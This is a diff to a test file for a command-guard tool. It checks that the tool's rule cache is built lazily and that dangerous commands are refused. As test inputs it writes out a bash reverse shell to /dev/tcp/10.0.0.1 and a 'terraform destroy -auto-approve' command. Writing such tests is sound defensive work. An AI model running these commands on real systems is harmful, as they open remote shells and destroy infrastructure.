@@ -80,13 +80,45 @@ describe('guard run and its code cache', () => {
     // A plain command walks nothing: it reads the first cache and writes no other.
     const plain = await execa(bin, ['run', '--', 'true'], {env: {...process.env, NODE_OPTIONS: undefined, ...box.env}, extendEnv: false, reject: false, stdin: 'ignore'});
     expect(plain.exitCode).toBe(0);
-    expect(readdirSync(cacheDir()).sort()).toEqual([caches()[0]!, name!].sort());
+    expect(readdirSync(cacheDir()).filter((file) => !file.startsWith('lean-packs-')).sort()).toEqual([caches()[0]!, name!].sort());
 
     // One V8 rejects is run past and made again; the run is the same.
     writeFileSync(file, 'not a V8 code cache\n', {mode: 0o600});
     await runEcho();
     expect(readFileSync(file, 'utf8')).not.toBe('not a V8 code cache\n');
     expect(JSON.parse(rows())).toHaveLength(5);
+  });
+
+  it("compiles the rules' checks, through a cache of their own, only once a command names a program one of them judges, and decides the same from it", async () => {
+    const packs = () => (existsSync(cacheDir()) ? readdirSync(cacheDir()).filter((name) => name.startsWith('lean-packs-')) : []);
+    const check = (...command: string[]) => execa(bin, ['check', '--', ...command], {env: {...process.env, NODE_OPTIONS: undefined, ...box.env}, extendEnv: false, reject: false, stdin: 'ignore'});
+    const refused = async (...command: string[]) => {
+      const result = await check(...command);
+      expect([result.exitCode, result.stderr.split(':').slice(0, 2).join(':')]).toEqual([77, 'guard: refused by rule cloud.terraform-destroy']);
+    };
+
+    // `true` and `sh -c` (whose network-shell check stays on the start-up path) need none of them.
+    for (const command of [['true'], ['true'], ['sh', '-c', 'true'], ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']]) await check(...command);
+    expect((await check('bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')).stderr).toMatch(/^guard: refused by rule remote\.network-shell:/);
+    expect(packs()).toEqual([]);
+
+    await refused('terraform', 'destroy');
+    const [name] = packs();
+    expect(name).toMatch(new RegExp(`^lean-packs-[0-9a-f]{16}-${process.version.replaceAll('.', '\\.')}-${process.arch}-[0-9a-f]+\\.bin$`));
+    const file = join(cacheDir(), name!);
+    const stat = lstatSync(file);
+    expect(stat.mode & 0o777).toBe(0o600);
+    await refused('terraform', 'destroy');
+    // A script that is parsed, then one whose tree is read from the parse cache: the same decision.
+    await refused('sh', '-c', 'cd infra && terraform destroy -auto-approve');
+    await refused('sh', '-c', 'cd infra && terraform destroy -auto-approve');
+    expect(lstatSync(file).ino).toBe(stat.ino);
+    expect(packs()).toEqual([name]);
+
+    // One V8 rejects is run past and made again; the decision is the same.
+    writeFileSync(file, 'not a V8 code cache\n', {mode: 0o600});
+    await refused('terraform', 'destroy');
+    expect(readFileSync(file, 'utf8')).not.toBe('not a V8 code cache\n');
   });
 
   it('runs correctly when its state folder cannot be written, and leaves no cache behind', async () => {
